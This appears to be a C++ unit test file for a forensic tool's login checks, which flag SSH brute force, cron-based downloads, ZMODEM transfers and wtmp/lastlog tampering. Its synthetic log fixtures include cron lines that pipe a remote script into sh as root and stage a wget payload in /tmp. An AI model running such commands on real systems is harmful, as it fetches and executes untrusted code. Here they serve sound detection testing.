// SPDX-License-Identifier: Apache-2.0
// logins/* checks over records parsed from auth/cron/messages samples and glibc-written wtmp.
#include <gtest/gtest.h>

#include "unit/checks/check_test_util.hpp"

namespace deadbox::checks {
namespace {
using testing::at;
using testing::Case;
using testing::has;
using testing::Ut;
using testing::write_wtmp;

const int64_t kMtime = at("2024-07-02T00:00:00Z");
const int64_t kS = 1'000'000'000;

std::string failures(int n, std::string_view ip, std::string_view user, int start_min = 0) {
  std::string out;
  for (int i = 0; i < n; ++i) {
    char buf[256];
    std::snprintf(buf, sizeof buf,
                  "Jul  1 03:%02d:%02d web1 sshd[%d]: Failed password for %.*s from %.*s port "
                  "%d ssh2\n",
                  start_min + i / 60, i % 60, 2000 + i, static_cast<int>(user.size()), user.data(),
                  static_cast<int>(ip.size()), ip.data(), 40000 + i);
    out += buf;
  }
  return out;
}

// Ordinary admin activity on a cloud VM: one typo then a key login from the office, a key
// login from home (public), sudo apt, Debian's own cron jobs, a backup job.
constexpr std::string_view kBenignAuth =
    R"(Jul  1 08:59:50 web1 sshd[700]: Failed password for admin from 10.0.0.5 port 51000 ssh2
Jul  1 09:00:00 web1 sshd[701]: Accepted publickey for admin from 10.0.0.5 port 51002 ssh2: ED25519 SHA256:AAAA
Jul  1 09:00:00 web1 sshd[701]: pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)
Jul  1 09:01:00 web1 sudo:    admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/apt update
Jul  1 20:00:00 web1 sshd[900]: Accepted publickey for admin from 203.0.113.50 port 40000 ssh2: ED25519 SHA256:AAAA
)";

constexpr std::string_view kBenignCron =
    R"(Jul  1 06:25:01 web1 CRON[1500]: (root) CMD (test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; })
Jul  1 09:09:01 web1 CRON[1600]: (root) CMD (  [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi)
Jul  1 02:30:01 web1 CRON[1700]: (root) CMD (/usr/local/bin/backup.sh > /var/log/backup.log 2>&1)
)";

Case benign() {
  Case c;
  c.file("linux/log/syslog", "/var/log/auth.log", kBenignAuth, kMtime);
  c.file("linux/log/syslog", "/var/log/syslog", kBenignCron, kMtime);
  const int64_t t = at("2024-07-01T09:00:00Z") / kS;
  c.file("linux/log/utmp", "/var/log/wtmp",
         write_wtmp({{BOOT_TIME, "reboot", "~", "6.1.0-18-amd64", t - 3600},
                     {USER_PROCESS, "admin", "pts/0", "10.0.0.5", t},
                     {DEAD_PROCESS, "", "pts/0", "", t + 600},
                     {USER_PROCESS, "admin", "pts/0", "203.0.113.50", t + 39600}}));
  return c;
}

TEST(LoginsChecks, BenignAdminActivityIsNeverHighOrCritical) {
  auto c = benign();
  for (const auto& f : c.run_all_checks())
    EXPECT_LT(f.severity, Severity::kMedium) << f.check_id << ": " << f.message;
  // The home login is listed for correlation, as info (key) — not silently dropped.
  const auto pub = c.run("logins/public_source_login");
  ASSERT_EQ(pub.size(), 1u);
  EXPECT_EQ(pub[0].severity, Severity::kInfo);
  EXPECT_NE(pub[0].message.find("203.0.113.50"), std::string::npos);
}

TEST(LoginsChecks, BruteForceFollowedBySuccess) {
  Case c;
  c.file("linux/log/syslog", "/var/log/auth.log",
         failures(12, "198.51.100.23", "root") +
             "Jul  1 03:30:00 web1 sshd[3000]: Accepted password for root from 198.51.100.23 "
             "port 41000 ssh2\n",
         kMtime);
  const auto bf = c.run("logins/brute_force");
  ASSERT_EQ(bf.size(), 1u);
  EXPECT_EQ(bf[0].severity, Severity::kHigh);
  EXPECT_NE(bf[0].message.find("12 failed logins within an hour from 198.51.100.23"),
            std::string::npos);
  EXPECT_NE(bf[0].message.find("successful login as 'root'"), std::string::npos);
  ASSERT_EQ(bf[0].evidence.size(), 3u);
  EXPECT_EQ(bf[0].evidence[0].line, 1u);
  EXPECT_EQ(bf[0].evidence[2].line, 13u);
  EXPECT_EQ(bf[0].first_seen, at("2024-07-01T03:00:00Z"));
  const auto saf = c.run("logins/success_after_failures");
  ASSERT_EQ(saf.size(), 1u);
  EXPECT_EQ(saf[0].severity, Severity::kCritical);
  EXPECT_TRUE(has(c.run("logins/root_password_login"), "198.51.100.23", Severity::kHigh));
  EXPECT_TRUE(has(c.run("logins/public_source_login"), "'root' logged in from public address",
                  Severity::kLow));
}

TEST(LoginsChecks, BruteForceThresholdAndWindow) {
  Case below;
  below.file("linux/log/syslog", "/var/log/auth.log", failures(9, "198.51.100.1", "x"), kMtime);
  EXPECT_TRUE(below.run("logins/brute_force").empty());
  // 10 failures, one per hour: no burst.
  std::string slow;
  for (int h = 0; h < 10; ++h)
    slow += "Jul  1 " + std::to_string(10 + h) +
            ":00:00 web1 sshd[1]: Failed password for x from 198.51.100.3 port 1 ssh2\n";
  Case hourly;
  hourly.file("linux/log/syslog", "/var/log/auth.log", slow, kMtime);
  EXPECT_TRUE(hourly.run("logins/brute_force").empty());
}

TEST(LoginsChecks, RepeatedMessagesAndInvalidUsersCountOncePerConnection) {
  Case c;
  c.file("linux/log/syslog", "/var/log/auth.log",
         "Jul  1 03:00:00 h sshd[10]: Invalid user oracle from 198.51.100.9 port 1\n"
         "Jul  1 03:00:01 h sshd[10]: Failed password for invalid user oracle from 198.51.100.9 "
         "port 1 ssh2\n"
         "Jul  1 03:00:05 h sshd[10]: message repeated 8 times: [ Failed password for invalid "
         "user oracle from 198.51.100.9 port 1 ssh2]\n",
         kMtime);
  const auto bf = c.run("logins/brute_force");
  ASSERT_EQ(bf.size(), 0u);  // 1 + 8 = 9 attempts, the Invalid user line is the same one
  c.file("linux/log/syslog", "/var/log/auth.log.1",
         "Jul  1 03:01:00 h sshd[11]: Invalid user test from 198.51.100.9 port 2\n", kMtime);
  const auto bf2 = c.run("logins/brute_force");
  ASSERT_EQ(bf2.size(), 1u);
  EXPECT_EQ(bf2[0].severity, Severity::kMedium);
}

TEST(LoginsChecks, BtmpAloneShowsBruteForceAndIsNotAddedToTheLog) {
  std::vector<Ut> bad;
  const int64_t t = at("2024-07-01T03:00:00Z") / kS;
  for (int i = 0; i < 15; ++i)
    bad.push_back({LOGIN_PROCESS, "root", "ssh:notty", "192.0.2.77", t + i});
  Case c;
  c.file("linux/log/utmp", "/var/log/btmp", write_wtmp(bad));
  c.file("linux/log/syslog", "/var/log/auth.log", failures(8, "192.0.2.77", "root"), kMtime);
  const auto bf = c.run("logins/brute_force");
  ASSERT_EQ(bf.size(), 1u);
  EXPECT_NE(bf[0].message.find("15 failed logins"), std::string::npos);  // max(15, 8), not 23
  EXPECT_EQ(bf[0].evidence[0].path, "/var/log/auth.log");
  EXPECT_EQ(bf[0].evidence.back().path, "/var/log/btmp");  // the corroborating btmp record
}

TEST(LoginsChecks, CronDownloadGradesExecution) {
  Case c;
  c.file(
      "linux/log/syslog", "/var/log/cron",
      "Jul  1 03:00:01 h CROND[1]: (root) CMD (curl -fsSL http://198.51.100.7/x.sh | sh)\n"
      "Jul  1 03:05:01 h CROND[2]: (root) CMD (curl -fsSL http://198.51.100.7/x.sh | sh)\n"
      "Jul  1 03:00:01 h CROND[3]: (nobody) CMD (curl -fsS -m 10 https://hc-ping.com/abc)\n"
      "Jul  1 03:00:01 h CROND[4]: (root) CMD (/usr/lib/libcurl-helper --check)\n"
      "Jul  1 03:00:01 h CROND[5]: (root) CMD (wget -q -O /tmp/.k http://x/k; chmod +x /tmp/.k)\n",
      kMtime);
  const auto f = c.run("logins/cron_download");
  ASSERT_EQ(f.size(), 3u);
  EXPECT_TRUE(has(f, "as 'root' 2 time(s) and executed or staged it", Severity::kHigh));
  EXPECT_TRUE(has(f, "hc-ping", Severity::kMedium));
  EXPECT_TRUE(has(f, "wget -q", Severity::kHigh));
}

TEST(LoginsChecks, ZmodemTransfersAreMedium) {
  Case c;
  c.file("linux/log/syslog", "/var/log/messages",
         "Jul  1 03:00:00 h rz[55]: ZMODEM receive: /tmp/.x/miner\n"
         "Jul  1 03:00:00 h kernel: ordinary line\n",
         kMtime);
  const auto f = c.run("logins/zmodem_transfer");
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].severity, Severity::kMedium);
  EXPECT_EQ(f[0].evidence[0].line, 1u);
  EXPECT_NE(f[0].evidence[0].excerpt.find("ZMODEM receive"), std::string::npos);
}

TEST(LoginsChecks, ZeroedWtmpRecordsAreHigh) {
  const int64_t t = at("2024-07-01T09:00:00Z") / kS;
  std::string w = write_wtmp({{USER_PROCESS, "admin", "pts/0", "10.0.0.5", t},
                              {USER_PROCESS, "evil", "pts/1", "198.51.100.4", t + 5},
                              {DEAD_PROCESS, "", "pts/0", "", t + 60}});
  std::fill(w.begin() + 384, w.begin() + 768, '\0');  // what a utmp cleaner leaves
  Case c;
  c.file("linux/log/utmp", "/var/log/wtmp", w);
  const auto f = c.run("logins/log_tampering");
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].severity, Severity::kHigh);
  EXPECT_NE(f[0].message.find("1 zeroed"), std::string::npos);
  ASSERT_EQ(f[0].evidence.size(), 2u);
  EXPECT_EQ(f[0].evidence[1].line, 2u);
}

TEST(LoginsChecks, EmptyWtmpWhileAuthLogShowsLogins) {
  Case c;
  c.file("linux/log/syslog", "/var/log/auth.log",
         "Jul  1 09:00:00 web1 sshd[701]: Accepted password for bob from 10.0.0.5 port 1 ssh2\n",
         kMtime);
  c.file("linux/log/utmp", "/var/log/wtmp", "");
  const auto f = c.run("logins/log_tampering");
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].severity, Severity::kHigh);
  EXPECT_NE(f[0].message.find("wtmp holds no login session"), std::string::npos);
}

TEST(LoginsChecks, LastlogAndAuthLogDisagreeWithWtmp) {
  const int64_t t = at("2024-07-01T09:00:00Z") / kS;
  Case c;
  c.file("unix/passwd", "/etc/passwd",
         "root:x:0:0::/root:/bin/bash\nadmin:x:1000:1000::/home/admin:/bin/bash\n");
  c.file("linux/log/utmp", "/var/log/wtmp",
         write_wtmp({{BOOT_TIME, "reboot", "~", "k", t - 100},
                     {USER_PROCESS, "admin", "pts/0", "10.0.0.5", t},
                     {DEAD_PROCESS, "", "pts/0", "", t + 7200}}));
  // lastlog says root logged in at t+3600 (inside wtmp's span), wtmp has no such session.
  std::string ll(292 * 1001, '\0');
  const uint32_t lt = static_cast<uint32_t>(t + 3600);
  for (int i = 0; i < 4; ++i) ll[i] = static_cast<char>((lt >> (8 * i)) & 0xff);
  ll.replace(4, 5, "pts/1");
  const uint32_t at_admin = static_cast<uint32_t>(t);
  for (int i = 0; i < 4; ++i) ll[292 * 1000 + i] = static_cast<char>((at_admin >> (8 * i)) & 0xff);
  c.file("linux/log/lastlog", "/var/log/lastlog", ll);
  c.file("linux/log/syslog", "/var/log/auth.log",
         "Jul  1 09:00:00 web1 sshd[701]: Accepted publickey for admin from 10.0.0.5 port 1 ssh2\n"
         "Jul  1 10:00:00 web1 sshd[702]: Accepted password for root from 10.0.0.9 port 2 ssh2\n",
         kMtime);
  const auto f = c.run("logins/log_tampering");
  ASSERT_EQ(f.size(), 2u);
  EXPECT_TRUE(has(f, "lastlog records a login of 'root'", Severity::kMedium));
  EXPECT_TRUE(has(f, "1 accepted ssh login(s) inside wtmp's time span", Severity::kLow));
}

}  // namespace
}  // namespace deadbox::checks
